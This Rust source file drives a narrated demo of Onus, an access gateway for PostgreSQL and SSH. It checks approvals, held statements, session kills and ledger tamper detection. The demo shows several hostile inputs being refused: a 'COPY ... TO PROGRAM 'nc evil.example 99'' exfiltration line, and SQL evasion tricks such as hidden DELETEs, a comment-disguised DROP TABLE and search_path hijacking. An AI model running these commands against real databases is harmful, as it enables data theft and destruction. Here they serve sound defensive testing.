//! `cargo xtask demo`: a newcomer's first look at Onus, as a story in chapters. Everything is real: the gateway,
//! PostgreSQL, psql, sshd, ssh, and each line that is printed; and every chapter checks what it claims.
//!
//! Deliberately nothing that only the demo can do: each command can be typed, and `--keep` leaves all of it running.

mod ssh;
mod stage;
mod voice;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

use onus_testkit::ssh_tools::Program;
use onus_testkit::tools::{self, Tool};
use stage::Stage;
use voice::Voice;

use crate::step::{Failure, cargo, seconds};

/// Who enrols, besides the administrator.
const PEOPLE: &[&str] = &["alice", "bob", "sam"];

/// Killing a session is promised to be quick; a busy machine gets some time more.
const KILL_LIMIT: Duration = Duration::from_secs(5);

/// The task.
pub fn task(words: &[String]) -> Result<(), Failure> {
    let (mut keep, mut fast) = (false, false);
    for word in words {
        match word.as_str() {
            "--keep" => keep = true,
            "--fast" => fast = true,
            other => return Err(Failure::Usage(format!("can't understand `{other}`"))),
        }
    }
    tools::need(&[Tool::C, Tool::Libclang, Tool::PostgresServer, Tool::Psql])?;
    tools::need(&[Program::Sshd, Program::Ssh, Program::Sftp, Program::SshKeygen].map(Tool::Ssh))?;
    let onus = build()?;

    let start = Instant::now();
    let mut stage = Stage::new(onus, Voice::new(fast))?;
    if let Err(failure) = played(&mut stage) {
        let place = match stage.voice.chapter_number() {
            0 => "while setting up".to_owned(),
            number => format!("in chapter {number}"),
        };
        stage.voice.failed(&failure.to_string());
        let logs = stage.keep_logs().map(|folder| format!("; the logs are in {}", folder.display()));
        return Err(Failure::Step(format!("failed {place}, as told above{}", logs.unwrap_or_default())));
    }
    stage.voice.title(&format!("That was Onus, in {}. Every step did what it said.", seconds(start.elapsed())));
    if keep {
        how_to_play_on(&stage);
        stage.stay()
    } else {
        stage.voice.prose("Play on yourself with `cargo xtask demo --keep`. Everything is stopped and removed now.");
        stage.take_down()
    }
}

/// Builds `onus` with cargo's own progress; says where it is.
fn build() -> Result<PathBuf, Failure> {
    eprintln!("building onus (the first time takes some minutes)");
    let mut build = cargo();
    build.args(["build", "--package", "onus", "--bin", "onus", "--message-format", "json-render-diagnostics"]);
    let built = build.stdin(Stdio::null()).stderr(Stdio::inherit()).output();
    let built = built.map_err(|fault| Failure::Step(format!("cargo could not be started: {fault}")))?;
    if !built.status.success() {
        return Err(Failure::Step(format!("onus could not be built ({})", built.status)));
    }
    let messages = String::from_utf8_lossy(&built.stdout);
    let binary = messages.lines().rev().find_map(|line| {
        let message: serde_json::Value = serde_json::from_str(line).ok()?;
        (message["target"]["name"] == "onus").then(|| message["executable"].as_str().map(PathBuf::from))?
    });
    binary.ok_or_else(|| Failure::Step("cargo did not say where it put the `onus` binary".to_owned()))
}

fn played(stage: &mut Stage) -> Result<(), Failure> {
    stage.voice.title("Onus: every operation is decided at the moment of use, and somebody always answers for it");
    stage.voice.prose(
        "A company, acme, with a production database and a server behind a gateway. Alice is a developer, Bob looks \
         after the data, Sam answers incidents. What follows is real: real psql and ssh, real PostgreSQL and sshd, real \
         refusals.",
    );
    stage.voice.line("");
    stage.set_up(PEOPLE)?;

    the_estate(stage)?;
    let request = asking(stage)?;
    approving_oneself(stage, &request)?;
    approval(stage, &request)?;
    reading(stage)?;
    holding(stage)?;
    dropping(stage)?;
    evading(stage)?;
    let session = killing(stage)?;
    who(stage, &session)?;
    verifying(stage, &session)?;
    ssh::played(stage)?;
    tampering(stage)
}

fn the_estate(stage: &mut Stage) -> Result<(), Failure> {
    stage.voice.chapter(
        "The estate: everything has an owner",
        "Who exists, who owns what and what can be asked for is declared in one file, examples/acme/estate.yaml. \
         Without an owner for every part of control there is no access at all.",
    );
    stage.onus("alice", &["resource", "list"])?.done()?.with("orders-db")?.with("warehouse-db")?;
    stage.voice.aside("Walt owns the warehouse. Today he leaves, and nobody has taken over.");
    stage.onus("root-admin", &["own", "left", "walt", "--reason", "left the company"])?.done()?;
    let words =
        ["request", "warehouse-db", "--role", "reader", "--purpose", "INC-41: count the parcels", "--for", "30m"];
    stage.onus("alice", &words)?.refused()?.with("no grant without an owner")?.with("walt")?;
    stage.voice.held("No owner, no grant, no session. The refusal names the gap, and who can close it.");
    Ok(())
}

fn asking(stage: &mut Stage) -> Result<String, Failure> {
    stage
        .voice
        .chapter("Alice asks", "A role, on a resource, for a purpose, until a deadline. Nobody has standing access.");
    let words =
        ["request", "orders-db", "--role", "reader", "--purpose", "INC-42: find the stuck order", "--for", "30m"];
    let said = stage.onus("alice", &words)?.done()?.with("data-platform")?;
    stage.voice.held("It waits for somebody of the team data-platform.");
    said.word("R-")
}

fn approving_oneself(stage: &mut Stage, request: &str) -> Result<(), Failure> {
    stage.voice.chapter(
        "Nobody approves their own request",
        "Not even an administrator. This rule is built in: there is no policy that could be edited to permit it.",
    );
    stage.onus("alice", &["approve", request])?.refused()?.with("nobody approves their own request")?;
    stage.voice.held("Refused, and it says who can.");
    Ok(())
}

fn approval(stage: &mut Stage, request: &str) -> Result<(), Failure> {
    stage.voice.chapter("Bob approves", "He sees what for, and from now on he answers for having agreed.");
    stage.onus("bob", &["request", "list"])?.done()?.with(request)?.with("INC-42")?;
    stage.onus("bob", &["approve", request])?.done()?.word("G-")?;
    stage.voice.held("A grant: it ends by itself in thirty minutes, with every session that uses it.");
    Ok(())
}

fn reading(stage: &mut Stage) -> Result<(), Failure> {
    stage.voice.chapter(
        "Alice reads, with the psql that she always used",
        "She proves who she is by key and certificate. There is no password for her to lose: the gateway makes a \
         database role for this one session, and drops it with the session.",
    );
    stage.point_psql("alice", "orders-db", "reader", true)?.with("PGSSLCERT")?.without("PASSWORD")?;
    stage.point_psql("alice", "orders-db", "reader", false)?;
    let sql = "SELECT * FROM orders WHERE status = 'stuck'";
    stage.psql("alice", &["-c", sql])?.done()?.with("customer 42")?;
    let said = stage.psql("alice", &["-c", "SELECT current_user"])?.done()?;
    let role = said.word("onus_")?;
    let gone = format!("SELECT count(*) FROM pg_roles WHERE rolname = '{role}'");
    let cluster = stage.cluster()?;
    onus_testkit::wait::until(Duration::from_secs(5), &format!("the end of the role `{role}`"), || {
        cluster.psql("orders", &gone).is_ok_and(|count| count.trim() == "0").then_some(())
    })?;
    stage.voice.held("The role was made for this session, and PostgreSQL has forgotten it already.");
    Ok(())
}

fn holding(stage: &mut Stage) -> Result<(), Failure> {
    stage.voice.chapter(
        "An UPDATE without WHERE waits for a second person",
        "Each statement is parsed and decided by itself. To repair order 42 Alice needs to write, so she asks again.",
    );
    let words = ["request", "orders-db", "--role", "writer", "--purpose", "INC-42: unstick order 42", "--for", "30m"];
    let request = stage.onus("alice", &words)?.done()?.word("R-")?;
    stage.onus("bob", &["approve", &request])?.done()?;
    stage.point_psql("alice", "orders-db", "writer", false)?;
    let careful = "UPDATE orders SET status = 'paid' WHERE id = 42";
    stage.psql("alice", &["-c", careful])?.done()?.with("UPDATE 1")?;
    stage.voice.held("With its WHERE it just runs. Now the one that changes every row:");
    let mut acting = stage.psql_in_background("alice", &["-c", "UPDATE orders SET total = total * 0.9"])?;
    let notice = acting.says("onus confirm H-")?;
    stage.voice.printed(&acting.news());
    let hold = hold_of(&notice)?;
    stage.voice.aside("Her psql waits. Bob sees the statement itself, not a summary of it.");
    stage.onus("bob", &["pending"])?.done()?.with(&hold)?.with("UPDATE orders SET total = total * 0.9")?;
    stage.onus("alice", &["confirm", &hold])?.refused()?.with("nobody confirms their own operation")?;
    stage.onus("bob", &["confirm", &hold])?.done()?;
    stage.voice.aside("And Alice's psql goes on:");
    let said = acting.finish()?;
    stage.voice.printed(said.text());
    said.done()?.with("UPDATE 1000")?;
    stage.voice.held("1000 rows, two people, both on record.");
    Ok(())
}

/// The hold that a notice names.
fn hold_of(notice: &str) -> Result<String, Failure> {
    let hold = notice.split(|c: char| !c.is_ascii_alphanumeric() && c != '-').find(|word| word.starts_with("H-"));
    hold.map(str::to_owned).ok_or_else(|| Failure::Step(format!("the notice names no hold: {notice}")))
}

fn dropping(stage: &mut Stage) -> Result<(), Failure> {
    stage.voice.chapter(
        "What a role does not permit is denied, and says why",
        "In PostgreSQL's own terms, so that every client shows it: what was refused, who owns the rule, what to do.",
    );
    let said = stage.psql("alice", &["-c", "DROP TABLE orders"])?.refused()?;
    said.with("ERROR: refused by onus")?.with("DETAIL:")?.with("HINT:")?.with("onus request orders-db")?;
    stage.voice.aside("And carrying the table off through a program on the database's own machine:");
    let said = stage.psql("alice", &["-c", "COPY orders TO PROGRAM 'nc evil.example 99'"])?.refused()?;
    let said = said.with("policy `server-files`, owned by petra")?;
    let log = stage.cluster()?.log();
    // The first one was permitted a moment ago: this is how one looks that did reach it.
    if !log.contains("WHERE id = 42") || log.contains("DROP TABLE") || log.contains("evil.example") {
        return Err(said.unexpected("PostgreSQL's own log to have Alice's UPDATE and neither of these"));
    }
    stage.voice.held("Refused by the gateway: PostgreSQL's own log has Alice's UPDATE, and neither of these.");
    Ok(())
}

fn evading(stage: &mut Stage) -> Result<(), Failure> {
    stage.voice.chapter(
        "Cleverness doesn't help",
        "What can't be understood is opaque, and opaque is refused unless a role was made for it. A parser's failure \
         is never a permit.",
    );
    stage.point_psql("alice", "orders-db", "reader", false)?;
    let tricks = [
        "DO $$ BEGIN DELETE FROM orders; END $$",
        "PREPARE harmless AS DELETE FROM orders",
        "EXECUTE harmless",
        "SELECT cancel_everything()",
        "/* SELECT */ DROP /* nothing */ TABLE orders",
        "SET search_path = mine, public",
    ];
    stage.voice.aside(
        "A program, a prepared statement, a name that was never seen, a function that updates, comments, and another \
         `orders` first in the search path:",
    );
    // Terse, since the reasons were shown above; with each statement before its answer.
    let mut words = vec!["-e", "-v", "VERBOSITY=terse"];
    words.extend(tricks.iter().flat_map(|trick| ["-c", trick]));
    let said = stage.psql("alice", &words)?.refused()?;
    if said.count("ERROR:  refused by onus") != tricks.len() {
        return Err(said.unexpected(&format!("{} refusals by onus", tricks.len())));
    }
    let said = said.with("a `DO` block")?;
    drop(said);
    let count = "SELECT count(*) FROM orders WHERE status = 'paid'";
    stage.psql("alice", &["-c", count])?.done()?.with("1000")?;
    stage.voice.held("All refused, all 1000 orders still there and as they were.");
    Ok(())
}

fn killing(stage: &mut Stage) -> Result<String, Failure> {
    stage.voice.chapter(
        "Sam ends a session in the middle of a statement",
        "Ending means: the statement is cancelled, both connections are closed, and the credential is gone. Each step \
         is measured, and recorded.",
    );
    let words = ["-c", "SELECT current_user", "-c", "SELECT sum(total) FROM orders", "-c", "SELECT pg_sleep(60)"];
    let mut acting = stage.psql_in_background("alice", &words)?;
    acting.says("(1 row)")?;
    let role = acting.says("onus_")?.trim().to_owned();
    sleepers(stage, "1")?;
    stage.voice.printed(&acting.news());
    // Named in the role, so that whoever looks at the database's own log finds the session.
    let session = role.strip_prefix("onus_").unwrap_or(&role).to_owned();
    stage.onus("sam", &["session", "list"])?.done()?.with(&session)?.with("alice")?;
    let count = format!("SELECT count(*) FROM pg_roles WHERE rolname = '{role}'");
    stage.past_the_gateway(&count)?.done()?.with(" 1 ")?;
    let start = Instant::now();
    let killed = stage.onus("sam", &["kill", &session, "--reason", "INC-43: that was not Alice"])?.done()?;
    if killed.count(" ms") != 4 {
        return Err(killed.unexpected("the measured times of four steps"));
    }
    let said = acting.finish()?;
    let took = start.elapsed();
    stage.voice.aside("Alice's psql:");
    stage.voice.printed(said.text());
    let said = said.refused()?.with("session ended by onus")?;
    if took > KILL_LIMIT {
        return Err(said.unexpected(&format!("its end within {}; it took {}", seconds(KILL_LIMIT), seconds(took))));
    }
    sleepers(stage, "0")?;
    stage.past_the_gateway(&count)?.done()?.with(" 0 ")?;
    stage.voice.held("The statement has stopped, the session is over, and its database role is gone.");
    Ok(session)
}

/// Waits until PostgreSQL runs so many of the statements that are to be cancelled.
fn sleepers(stage: &Stage, many: &str) -> Result<(), Failure> {
    let cluster = stage.cluster()?;
    let asleep = "SELECT count(*) FROM pg_stat_activity WHERE state = 'active' AND wait_event = 'PgSleep'";
    onus_testkit::wait::until(Duration::from_secs(10), &format!("pg_sleep running {many} times"), || {
        (cluster.psql("orders", asleep).is_ok_and(|count| count.trim() == many)).then_some(())
    })?;
    Ok(())
}

fn who(stage: &mut Stage, session: &str) -> Result<(), Failure> {
    stage.voice.chapter(
        "Who answers for it?",
        "Names, by rules that were fixed beforehand, from the ledger's entries; the proof that each entry is in the \
         signed ledger is checked by Sam's own client.",
    );
    stage.onus("sam", &["who", session])?.done()?.with("alice")?.with("petra")?.with("bob")?.with("entries")?;
    stage.voice.held("Not “the team”: one person for each part, each with the reason and the evidence.");
    Ok(())
}

fn verifying(stage: &mut Stage, session: &str) -> Result<(), Failure> {
    stage.voice.chapter(
        "Every decision can be computed again",
        "From the session's journal and the ledger, by whoever has a copy: the same policy, the same state, the same \
         answer, or it is told.",
    );
    let words = ["verify", "--session", session, "--data", "gateway", "--key-file", "ledger.vkey"];
    stage.onus("auditor", &words)?.done()?.with("decisions asked for again")?.with("holds")?.without("NOT")?;
    stage.voice.held("The journal is whole, it is anchored in the ledger, and every decision came out the same.");
    Ok(())
}

fn tampering(stage: &mut Stage) -> Result<(), Failure> {
    stage.voice.chapter(
        "Nobody rewrites history",
        "The ledger is exported and its copy is forged by a single byte: INC-42 becomes INC-43.",
    );
    stage.onus("operator", &["ledger", "export", "--data", "gateway", "copy"])?.done()?;
    let verify = ["ledger", "verify", "--copy", "copy", "--key-file", "ledger.vkey"];
    stage.onus("auditor", &verify)?.done()?;
    let forged = forge(&stage.path("copy").join("tile/entries"), b"INC-42", 5, b'3')?;
    stage
        .voice
        .aside(&format!("One byte of {} is changed. The auditor looks again:", shown(&forged, &stage.path("copy"))));
    stage.onus("auditor", &verify)?.refused()?.with("entry")?;
    stage.voice.held("Caught, and the entry is named.");
    Ok(())
}

/// Changes the byte at `at` within the first place where a file below the folder holds `text`; says in which file.
fn forge(folder: &Path, text: &[u8], at: usize, byte: u8) -> Result<PathBuf, Failure> {
    let cannot = |fault| Failure::Step(format!("could not forge a file in `{}`: {fault}", folder.display()));
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        let mut paths: Vec<PathBuf> =
            fs::read_dir(folder).map_err(cannot)?.flatten().map(|entry| entry.path()).collect();
        paths.sort();
        for path in paths {
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let mut bytes = fs::read(&path).map_err(cannot)?;
            if let Some(place) = bytes.windows(text.len()).position(|window| window == text) {
                bytes[place + at] = byte;
                fs::write(&path, bytes).map_err(cannot)?;
                return Ok(path);
            }
        }
    }
    Err(Failure::Step(format!("no file in `{}` holds what was to be forged", folder.display())))
}

fn shown(path: &Path, under: &Path) -> String {
    path.strip_prefix(under).unwrap_or(path).display().to_string()
}

fn how_to_play_on(stage: &Stage) {
    let voice = &stage.voice;
    voice.prose("It goes on running. In another terminal:");
    voice.line("");
    for line in [
        format!("export PATH={}:$PATH", stage.onus_folder().display()),
        format!("export ONUS_HOME={}      # or bob, sam, root-admin", stage.home("alice").display()),
        "onus grant list".to_owned(),
        "onus connect orders-db --role writer                 # your own psql, through the gateway".to_owned(),
        "eval \"$(onus env orders-db --role reader)\" && psql    # the same for any PostgreSQL client".to_owned(),
        "onus request orders-db --role schema-changer --purpose 'have a look' --for 30m --wait".to_owned(),
        format!("ssh -F {} log-keeper.web-1    # the governed shell", stage.ssh_config("alice").display()),
        format!("onus ledger show --data {}", stage.path("gateway").display()),
        "onus --help".to_owned(),
    ] {
        voice.line(&line);
    }
    voice.line("");
    voice.prose("Ctrl-C here stops and removes everything.");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exactly_one_byte_is_forged() {
        let folder = tempfile::tempdir().expect("a folder can be made");
        fs::create_dir(folder.path().join("x001")).expect("and another in it");
        let file = folder.path().join("x001/000");
        fs::write(&file, "an INC-42 and an INC-42").expect("and a file");
        assert_eq!(forge(folder.path(), b"INC-42", 5, b'3').expect("it holds the text"), file);
        assert_eq!(fs::read_to_string(&file).expect("it is there"), "an INC-43 and an INC-42");
        assert!(forge(folder.path(), b"INC-44", 5, b'3').is_err());
    }
}
